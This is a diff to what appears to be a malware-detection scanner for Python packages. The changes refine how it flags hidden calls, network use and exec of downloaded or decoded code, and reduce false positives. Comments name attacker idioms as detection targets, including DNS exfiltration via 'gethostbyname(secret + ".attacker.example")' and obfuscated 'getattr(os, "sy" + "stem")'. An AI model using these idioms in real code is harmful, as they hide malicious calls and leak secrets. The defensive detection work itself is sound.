@@ -304,6 +304,11 @@ CODE_READS = frozenset({
     "inspect.getouterframes", "inspect.getframeinfo", "sys._getframe", "traceback.extract_stack",
     "inspect.getfile", "inspect.getmodule",
 })
+ADDRESS_LOOKUPS = frozenset({"socket.getaddrinfo", "socket.gethostbyname",
+                             "socket.gethostbyname_ex"})
+"""The system resolver's answers are addresses it picked, not content a server sent: ray
+passes the resolved head address to `ray start --node-ip-address=...`. (A resolver query for
+TXT records, `dns.resolver.resolve`, does bring content and stays a source.)"""
 HIDDEN_SOURCES = frozenset({"decode", "chr_join", "reverse", "blob", "xor", "exception"})
 
 
@@ -325,6 +330,8 @@ class Collector(ast.NodeVisitor):
         """1 while visiting the arguments of a message call (print, log, an exception)."""
         self.params: dict[str, list[str]] = {}
         self.raised: dict[str, list[ast.expr]] = {}
+        self.unix_sockets: list[tuple[int, str, str, int]] = []
+        self.rebinds_unix = False
         """Scope -> arguments of exceptions raised there (a command can travel in one)."""
         self.handlers: dict[tuple[str, str], str] = {}
         self.bound: dict[str, set[str]] = {}
@@ -657,6 +664,8 @@ class Collector(ast.NodeVisitor):
         self.generic_visit(node)
 
     def visit_Name(self, node: ast.Name) -> None:
+        if isinstance(node.ctx, ast.Store) and node.id == "AF_UNIX":
+            self.rebinds_unix = True
         if isinstance(node.ctx, ast.Store) and self.scope not in (MODULE, MAIN):
             self.bound.setdefault(self.scope, set()).add(node.id)
         if junk_identifier(node.id):
@@ -690,6 +699,8 @@ class Collector(ast.NodeVisitor):
     def _attribute_store(self, target: ast.Attribute, value: ast.expr, line: int) -> None:
         """`sys.excepthook = f`, `lib.Account.sign = f`: a function handed to other code."""
         base = self.qualify(target.value)
+        if target.attr == "AF_UNIX":
+            self.rebinds_unix = True
         handed = isinstance(value, (ast.Name, ast.Lambda, ast.Attribute))
         root = base.split(".")[0] if base else ""
         foreign = bool(base) and root in self.aliases.values() and root not in ("self", "cls")
@@ -814,11 +825,14 @@ class Collector(ast.NodeVisitor):
         tricky = self._pending_trick
         self._pending_trick = False
         line, col = node.lineno, node.col_offset
-        if tricky and caps:
+        if tricky and (caps or qualified in CODE_READS):
             # The name of what is called was built at run time (chr, concatenation, decoding):
-            # nobody writes `getattr(os, "sy" + "stem")` except to hide the call.
+            # nobody writes `getattr(os, "sy" + "stem")` except to hide the call. Folded back
+            # to a known function, it is graded by what that function does (celery reaches
+            # `sys._getframe` as `getattr(sys, "emarfteg_"[::-1])`: a frame read, kept as a
+            # `code_read` source below, not a call whose target stays unknown).
             self.out.add("hidden_name", line, self.scope, qualified, col)
-        if not caps and self._hidden_target(node):
+        elif not caps and self._hidden_target(node):
             self.out.add("hidden_call", line, self.scope, qualified or "<computed>", col)
         if qualified in ZIP_LOADS and node.args:
             # `zipimport.zipimporter(bundle).load_module("x")`: a module of a bundled zip.
@@ -852,6 +866,11 @@ class Collector(ast.NodeVisitor):
             if not merges and self.qualify(arg) in ENVIRON_NAMES:
                 self.out.add("env_dump", line, self.scope, "os.environ", col)
         label = qualified or simple or "<call>"
+        if "network" in caps and qualified == "socket.socket" and self._unix_family(node):
+            # A Unix-domain socket talks to this host's processes (put back by
+            # `ast_facts` if the file rebinds `AF_UNIX`).
+            caps.discard("network")
+            self.unix_sockets.append((line, self.scope, label, col))
         if "dns" in caps and node.args and _built_name(node.args[0]):
             # gethostbyname(secret + ".attacker.example"): data leaves in the query name.
             caps.add("dns_exfil")
@@ -921,6 +940,13 @@ class Collector(ast.NodeVisitor):
                                 or qualified in METADATA_CALLS or simple in METADATA_CALLS)
         self.generic_visit(node)
         self.messages = outer
+
+    def _unix_family(self, node: ast.Call) -> bool:
+        """`socket.socket(socket.AF_UNIX, ...)` (or `family=AF_UNIX`): local IPC, no host
+        outside this machine can be reached through it."""
+        family = node.args[0] if node.args else next(
+            (k.value for k in node.keywords if k.arg == "family"), None)
+        return family is not None and self.qualify(family) == "socket.AF_UNIX"
 
     def _hidden_target(self, node: ast.Call) -> bool:
         """A call whose target stays unknown and whose name comes from encoded or obfuscated
@@ -1119,7 +1145,7 @@ class Collector(ast.NodeVisitor):
                 caps, qualified, simple = self.call_caps(sub)
                 if "decode" in caps or simple in self.helpers:
                     found.add("decode")
-                if caps & {"download", "network"}:
+                if caps & {"download", "network"} and qualified not in ADDRESS_LOOKUPS:
                     found.add("download")
                 if (
                     simple == "join" and sub.args and _mentions_chr(sub.args[0])
@@ -1290,6 +1316,9 @@ def ast_facts(tree: ast.Module) -> FileFacts:
     collector.all_calls = []
     collector.visit(tree)
     collector.resolve_exec_sources()
+    if collector.rebinds_unix:
+        for line, scope, label, col in collector.unix_sockets:
+            out.add("network", line, scope, label, col)
     return out
 
 
@@ -1300,6 +1329,7 @@ _STRING = re.compile(
     r"""(?:[rRbBuU]{0,2})(?:'([^'\\\n]*(?:\\.[^'\\\n]*)*)'|"([^"\\\n]*(?:\\.[^"\\\n]*)*)")"""
 )
 _DEF = re.compile(r"^(\s*)def\s+(\w+)")
+_OPEN_READ = re.compile(r"\bopen\([^()]*\)\.read\(\)")
 _EXEC_WORD = re.compile(r"\b(exec|eval|compile|marshal\.loads|pickle\.loads)\s*\(")
 
 
@@ -1352,7 +1382,10 @@ def text_facts(text: str, max_line: int = 20_000) -> FileFacts:
                 r"b64decode|decompress|unhexlify|fromhex|decrypt", line
             ):
                 out.add("exec_of:decode", lineno, scope, "exec")
-            if caps_here & {"download", "network"} or ".read()" in line:
+            # `.read()` of a response, not of a file the same line opens (Python 2's
+            # `exec compile(open(fname).read(), ...)` in an execfile shim).
+            reads = line.count(".read()") - len(_OPEN_READ.findall(line))
+            if caps_here & {"download", "network"} or reads > 0:
                 out.add("exec_of:download", lineno, scope, "exec")
             if "chr(" in line:
                 out.add("exec_of:chr_join", lineno, scope, "exec")
